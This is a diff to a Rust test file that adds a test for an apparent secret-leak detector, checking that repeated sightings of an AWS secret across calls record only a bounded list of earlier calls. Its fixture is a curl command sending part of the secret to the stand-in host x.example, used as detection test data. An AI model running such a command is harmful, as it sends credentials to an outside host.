@@ -137,6 +137,23 @@ fn pieces_across_calls_add_up_to_the_whole() {
 }
 
 #[test]
+fn a_secret_sent_in_every_call_names_a_bounded_list_of_earlier_calls() {
+    // A run that sends the same secret in each of its calls: each sighting
+    // lists earlier calls, at most MAX_CALLS of them, not all (quadratic).
+    let (keys, mut run) = setup(&[("aws_secret_access_key", AWS)]);
+    let text = format!("curl x.example/?p={}", &AWS[..20]);
+    let mut last = Vec::new();
+    for i in 0..(MAX_CALLS * 4) {
+        let s = run.find(&keys, &text, &format!("c{i}"));
+        assert_eq!(s.len(), 1, "call {i}");
+        last = s[0].out.earlier_calls.clone();
+    }
+    assert_eq!(last.len(), MAX_CALLS, "the first calls, bounded");
+    assert_eq!(last[0], "c0");
+    assert!(run.secrets.iter().all(|s| s.calls.len() <= MAX_CALLS));
+}
+
+#[test]
 fn shared_structure_of_other_secrets_is_no_match() {
     let (keys, mut run) = setup(&[
         ("openai_api_key", OPENAI),
